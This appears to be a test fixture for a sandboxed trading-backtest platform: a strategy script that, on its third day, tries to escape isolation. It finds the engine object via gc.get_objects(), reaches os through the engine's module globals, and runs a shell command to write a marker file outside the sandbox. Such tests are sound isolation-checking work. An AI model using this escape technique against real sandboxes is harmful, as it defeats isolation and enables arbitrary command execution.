# Escape attempt: gc.get_objects() reaching the engine, then its module globals
# Buys on day 1, attacks on day 3; OUTSIDE is a folder the isolated run must not reach.
import gc
OUTSIDE = "__OUTSIDE__"


def initialize(context):
    g.day = 0
    set_universe(["600570.SS"])


def handle_data(context, data):
    g.day += 1
    if g.day == 1:
        order_value("600570.SS", 100000)
    if g.day == 3:
        log.info("attacking")
        engines = [o for o in gc.get_objects() if type(o).__name__ == "Backtest"]
        log.info("engine objects reachable: %d" % len(engines))
        engine_globals = type(engines[0]).__init__.__globals__
        os_module = engine_globals["_checkpoint"].os          # a module the engine imported
        os_module.system("touch " + OUTSIDE + "/pwned")
